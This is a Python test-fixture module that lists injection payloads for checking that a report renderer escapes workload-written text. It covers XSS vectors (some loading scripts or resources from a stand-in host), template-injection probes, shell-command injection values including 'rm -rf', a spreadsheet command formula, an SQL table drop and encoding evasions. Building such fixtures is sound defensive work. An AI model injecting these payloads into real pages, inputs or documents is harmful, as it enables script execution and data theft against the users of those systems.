"""Texts that a workload could write into its names, labels, messages and logs to act on whoever reads the report."""

CALL = "window.planted=1"
OUTSIDE = "http://planted.example/x"

HANDLERS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onanimationstart", "onpageshow", "onscroll",
    "onhashchange", "onresize", "onwheel", "onpointerenter", "onbeforematch",
]  # fmt: skip
TAGS = ["img", "svg", "body", "video", "audio", "iframe", "object", "embed", "details", "input", "marquee", "math", "style", "form"]

ELEMENTS = [
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src={OUTSIDE}></script>", f"<script type=module>{CALL}</script>",
    f"</title><script>{CALL}</script>", f"</style><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>", f"</code></pre><script>{CALL}</script>", f"</svg><script>{CALL}</script>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>", f"<svg><use href='{OUTSIDE}#x'/></svg>", f"<svg><image href='{OUTSIDE}'/></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><set onbegin={CALL} attributename=x>", f"<svg><foreignObject><img src=x onerror={CALL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>", f"<img src={OUTSIDE}>", f"<img srcset='{OUTSIDE} 1x'>", f"<picture><source srcset={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}>", f"<link rel=prefetch href={OUTSIDE}>", f"<link rel=preconnect href={OUTSIDE}>", f"<link rel=dns-prefetch href={OUTSIDE}>",
    f"<style>@import '{OUTSIDE}';</style>", f"<style>body{{background:url({OUTSIDE})}}</style>", f"<style>@font-face{{font-family:x;src:url({OUTSIDE})}}*{{font-family:x}}</style>",
    f"<base href={OUTSIDE}>", f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">', f"<iframe src={OUTSIDE}></iframe>", f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>", f"<object data={OUTSIDE}></object>", f"<embed src={OUTSIDE}>", f"<video src={OUTSIDE} autoplay></video>",
    f"<audio src={OUTSIDE} autoplay></audio>", f"<video poster={OUTSIDE}></video>", f"<input type=image src={OUTSIDE}>", f"<body background={OUTSIDE}>",
    f"<table background={OUTSIDE}>", f"<form action={OUTSIDE}><button autofocus>x</button></form>", f"<a href='javascript:{CALL}'>x</a>", f"<a href={OUTSIDE} ping={OUTSIDE}>x</a>",
    f"<button formaction='javascript:{CALL}'>x</button>", "<noscript><p title='</noscript><img src=x onerror=window.planted=1>'>", "<template><script>window.planted=1</script></template>",
    "<plaintext>", "<xmp>", "<textarea>", "<!--", "<![CDATA[", "<?xml-stylesheet href='http://planted.example/x'?>", "<!DOCTYPE html>", "<frameset onload=window.planted=1>",
    f"<portal src={OUTSIDE}>", f"<track src={OUTSIDE}>", f"<bgsound src={OUTSIDE}>", f"<isindex action=javascript:{CALL}>", f"<x contenteditable onblur={CALL} autofocus>x</x>",
]  # fmt: skip

ATTRIBUTES = [
    f'" onload="{CALL}', f"' onload='{CALL}", f'" autofocus onfocus="{CALL}', f'" style="background:url({OUTSIDE})', f"` onload=`{CALL}", f"x onmouseover={CALL} y",
    f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f'"/><img src=x onerror={CALL}>', f"&quot; onload=&quot;{CALL}", f"&#34; onload=&#34;{CALL}", '" id="finding-1',
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", OUTSIDE, "//planted.example/x",
    "http://planted.example/x.png", "https://user:word@planted.example", "file:///etc/hostname", "#finding-1", "../../x", "results.json?x",
]  # fmt: skip

TEMPLATES = [
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/hostname' %}", "{% for x in range(9) %}x{% endfor %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ result|safe }}", "{{ cycler.__init__.__globals__ }}", "%s%s%n", "{0.__class__}", "$(date)", "`date`", "; date", "| date", "&& date", "\\", "\\u003cscript\\u003e",
]  # fmt: skip

ENCODED = [
    "&lt;script&gt;window.planted=1&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\uff1cscript\uff1ewindow.planted=1\uff1c/script\uff1e", "\u2039script\u203a", "+ADw-script+AD4-",
    "\xbcscript\xbe", "<scr\x00ipt>window.planted=1</scr\x00ipt>", "<\x0bscript>", "<script\x0c>window.planted=1</script>", "\ufeff<script>window.planted=1</script>", "<\u200bscript>",
    "\u202e<script>\u202c", "\u2066\u2069", "\U000e003cscript", "\u0338<b>", "a\u0300" * 50, "\x1b[31mred", "\x9b31m", "\x00", "\x7f", "\r\n\r\n<html>", "\u2028<script>\u2029",
]  # fmt: skip

OTHERS = [
    "*{display:none!important}", "}*{display:none}", "expression(window.planted=1)", "url(http://planted.example/x)", "[x](javascript:window.planted=1)", "![x](http://planted.example/x)",
    "[x]: http://planted.example", "<http://planted.example>", "www.planted.example", "=cmd|' /C calc'!A0", "@import 'http://planted.example'", "a" * 3000, "x " * 500, "<b>" * 200,
    "'; DROP TABLE x; --", "__proto__", "constructor", "toString", "null", "undefined", "NaN", "-1", "", " ", "\n\n\n", "\t", "$ ", "$ rm -rf <b>", "- ", "    <b>code</b>", "`", "``", "`<b>`",
    "`<img src=x onerror=window.planted=1>`", "$ echo <script>window.planted=1</script> \\", "::error::x", "##vso[x]y", "</dd></dl></article></main>", "</td></tr></table>", "</h4></p>",
]  # fmt: skip

PAYLOADS = [
    *ELEMENTS,
    *ATTRIBUTES,
    *TEMPLATES,
    *ENCODED,
    *OTHERS,
    *(f"<{tag} src=x data=x {handler}={CALL}>" for tag in TAGS for handler in HANDLERS[:4]),
    *(f'"{handler}="{CALL}" x="' for handler in HANDLERS),
    *(f"<x {handler}={CALL} tabindex=1 style=animation-name:x>" for handler in HANDLERS),
]
